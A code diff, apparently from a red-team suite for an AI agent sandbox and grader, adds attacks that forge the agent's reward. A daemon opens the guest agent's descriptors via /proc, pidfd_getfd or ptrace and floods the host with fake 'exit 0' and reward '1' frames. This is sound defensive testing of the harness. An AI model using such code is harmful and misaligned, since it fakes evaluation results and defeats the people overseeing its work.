@@ -8,7 +8,7 @@ tests' own tools read after the code under test ran; ``--round viii``: inside a 
 ``--round ix``: what ends that process, the reward's descriptor, masks in the verify phase, and the
 line of the tests' own data; ``--round x``: the tests' data where the code under test can write it, and
 what reads the workdir without being one of its programs; ``--round xi``: the verifier's preparation (what
-it prints back, the binary and the shell that run it, the script behind it). Each task's tests decide 0 (the agent never writes hello into /app/out.txt); each solve.sh
+it prints back, the binary and the shell that run it, the script behind it); ``--round xii``: the guest agent's own stream to the host. Each task's tests decide 0 (the agent never writes hello into /app/out.txt); each solve.sh
 is an attack that tries to turn that 0 into a 1, or into a mask. scripts/attack-table.py runs them on every backend, in both verify modes."""
 
 from __future__ import annotations
@@ -1049,6 +1049,87 @@ ATTACKS_XI: dict[str, dict[str, object]] = {
               "touch \"$d/conftest.py\"\n"),
 }
 
+# Round XII (2026-12-05): the guest agent's own stream to the host. A process of the sandbox that
+# reaches the agent's descriptor (its stdout pipe on bwrap and gVisor, the virtio-serial port on
+# microvm) can write frames the host takes for the agent's: an EXIT of 0 for the tests' command, a
+# DATA of "1" for the reward's read. The host asks for no STARTED now (NOSTART), so an EXIT alone
+# answers a command: written for that change. A daemon the solution leaves waits for the grader's
+# 0 in the reward file, then floods frames for every request id the host has likely used.
+FLOOD = r"""import os, struct, sys, time
+def frame(t, rid, fields):
+    body = struct.pack(">BI", t, rid) + b"".join(struct.pack(">BI", g, len(d)) + d for g, d in fields)
+    return struct.pack(">I", len(body)) + body
+FORGED = b"".join(frame(0x84, i, [(10, b"0"), (17, b"1000")]) + frame(0x85, i, [(8, b"1")]) for i in range(1, 600))
+def flood(fds, log):
+    while not os.path.exists("REWARD"):
+        time.sleep(0.005)
+    end = time.time() + 30
+    while time.time() < end:
+        for fd in fds:
+            try:
+                os.write(fd, FORGED)
+            except OSError as e:
+                log.write(f"write {fd}: {e}\n")
+        time.sleep(0.002)
+"""
+
+
+def agent_pids_py() -> str:
+    return ("def agent_pids():\n    out = []\n    for p in os.listdir('/proc'):\n        if not p.isdigit() or int(p) == os.getpid():\n"
+            "            continue\n        try:\n            cmd = open(f'/proc/{p}/cmdline', 'rb').read()\n        except OSError:\n"
+            "            continue\n        if b'sandfleet-agent' in cmd or b'/run/sandfleet/agent' in cmd or p == '1':\n"
+            "            out.append(int(p))\n    return out\n")
+
+
+DAEMON = ("if os.fork():\n    sys.exit(0)\nos.setsid()\nif os.fork():\n    sys.exit(0)\n"
+          "log = open('/tmp/channel.log', 'a', buffering=1)\n")
+PROC_FD = (FLOOD.replace("REWARD", REWARD) + agent_pids_py() + DAEMON +
+           "fds = []\nfor pid in agent_pids():\n    try:\n        names = os.listdir(f'/proc/{pid}/fd')\n"
+           "    except OSError as e:\n        log.write(f'list {pid}: {e}\\n'); continue\n    for n in names:\n"
+           "        try:\n            fds.append(os.open(f'/proc/{pid}/fd/{n}', os.O_WRONLY | os.O_NONBLOCK))\n"
+           "            log.write(f'opened {pid}/{n}\\n')\n        except OSError as e:\n"
+           "            log.write(f'open {pid}/{n}: {e}\\n')\nflood(fds, log)\n")
+GETFD = (FLOOD.replace("REWARD", REWARD) + agent_pids_py() + DAEMON +
+         "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nfds = []\nfor pid in agent_pids():\n"
+         "    pfd = libc.syscall(434, pid, 0)\n    if pfd < 0:\n        log.write(f'pidfd_open {pid}: errno {ctypes.get_errno()}\\n'); continue\n"
+         "    for n in range(0, 64):\n        fd = libc.syscall(438, pfd, n, 0)\n        if fd >= 0:\n"
+         "            fds.append(fd); log.write(f'got {pid}/{n}\\n')\n    log.write(f'pidfd_getfd {pid}: errno {ctypes.get_errno()}\\n')\n"
+         "flood(fds, log)\n")
+PTRACE = (FLOOD.replace("REWARD", REWARD) + agent_pids_py() + DAEMON +
+          "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nfor pid in agent_pids():\n"
+          "    r = libc.ptrace(0x4206, pid, 0, 0)  # PTRACE_SEIZE\n"
+          "    log.write(f'seize {pid}: {r} errno {ctypes.get_errno()}\\n')\n"
+          "    if r == 0:  # its memory: the frames' buffer is not found here, only the breach recorded\n"
+          "        log.write(f'SEIZED {pid}\\n')\n"
+          "fds = []\nfor pid in agent_pids():\n    for n in range(0, 8):\n        try:\n"
+          "            fds.append(os.open(f'/proc/{pid}/fd/{n}', os.O_WRONLY | os.O_NONBLOCK))\n        except OSError:\n"
+          "            pass\nflood(fds, log)\n")
+ATTACKS_XII: dict[str, dict[str, object]] = {
+    "channel-proc-fd": dict(
+        why="a daemon of the solution opens every descriptor of the guest agent (and of pid 1) through /proc for "
+            "writing and, once the grader wrote its 0, floods the host's stream with an EXIT of 0 and a DATA of "
+            "'1' for every request id up to 600",
+        test=BY_GRADE, files={"grade.py": OUT_GRADE},
+        solve=heredoc("/tmp/flood.py", PROC_FD) + "python3 /tmp/flood.py; sleep 0.5; cat /tmp/channel.log\n"),
+    "channel-pidfd-getfd": dict(
+        why="as channel-proc-fd, the agent's descriptors taken with pidfd_open and pidfd_getfd (a copy of the "
+            "descriptor itself, where /proc would open the device or pipe again)",
+        test=BY_GRADE, files={"grade.py": OUT_GRADE},
+        solve=heredoc("/tmp/flood.py", GETFD) + "python3 /tmp/flood.py; sleep 0.5; cat /tmp/channel.log\n"),
+    "channel-ptrace": dict(
+        why="the daemon tries to seize the guest agent with ptrace (its writes and memory), records it, and "
+            "floods what it can open, as channel-proc-fd",
+        test=BY_GRADE, files={"grade.py": OUT_GRADE},
+        solve=heredoc("/tmp/flood.py", PTRACE) + "python3 /tmp/flood.py; sleep 0.5; cat /tmp/channel.log\n"),
+    "channel-proc-fd-root": dict(
+        why="channel-proc-fd as the image's root (the Dockerfile's USER root, Docker's behaviour): the same "
+            "uid as the guest agent inside the sandbox",
+        dockerfile=DOCKERFILE + "USER root\n",
+        test=BY_GRADE, files={"grade.py": OUT_GRADE},
+        solve=heredoc("/tmp/flood.py", PROC_FD) + "python3 /tmp/flood.py; sleep 0.5; cat /tmp/channel.log\n"),
+}
+
+
 def main() -> int:
     global ROOT, ATTACKS
     if "--round" in sys.argv:
@@ -1056,7 +1137,8 @@ def main() -> int:
         ROOT, ATTACKS = ROOT.with_name(f"attacks-{rnd}"), {"iii": ATTACKS, "iv": ATTACKS_IV, "v": ATTACKS_V,
                                                                     "vi": ATTACKS_VI, "vii": ATTACKS_VII,
                                                                     "viii": ATTACKS_VIII, "ix": ATTACKS_IX,
-                                                                    "x": ATTACKS_X, "xi": ATTACKS_XI}[rnd]
+                                                                    "x": ATTACKS_X, "xi": ATTACKS_XI,
+                                                                    "xii": ATTACKS_XII}[rnd]
     if ROOT.exists():
         shutil.rmtree(ROOT)
     for name, a in ATTACKS.items():
@@ -1070,7 +1152,7 @@ def main() -> int:
             f'[agent]\ntimeout_sec = 120\n[verifier]\ntimeout_sec = 60\n{a.get("toml", "")}'
             "[environment]\ncpus = 1\nmemory_mb = 512\nstorage_mb = 256\n")
         (folder / "instruction.md").write_text("Write hello into /app/out.txt.\n")
-        (folder / "environment" / "Dockerfile").write_text(DOCKERFILE)
+        (folder / "environment" / "Dockerfile").write_text(str(a.get("dockerfile", DOCKERFILE)))
         (folder / "tests" / "test.sh").write_text("#!/bin/bash\n" + str(a["test"]))
         for rel, text in dict(a["files"]).items():  # type: ignore[call-overload]
             (folder / "tests" / rel).write_text(text)
